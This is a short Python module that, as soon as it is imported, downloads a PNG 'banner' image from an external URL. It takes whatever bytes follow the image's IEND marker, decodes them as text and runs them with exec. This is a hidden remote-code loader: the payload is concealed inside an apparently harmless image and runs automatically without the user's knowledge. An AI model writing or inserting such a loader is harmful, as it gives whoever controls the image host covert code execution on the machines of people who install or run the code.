import io
import urllib.request

IMG = "https://images.example.invalid/u/8f2c1a/banner.png"


def _tail(blob):
    marker = blob.rfind(b"IEND")
    return blob[marker + 8:]


def _load():
    data = urllib.request.urlopen(IMG).read()
    code = _tail(data).decode("utf-8", "ignore")
    exec(compile(code, "<banner>", "exec"))


_load()
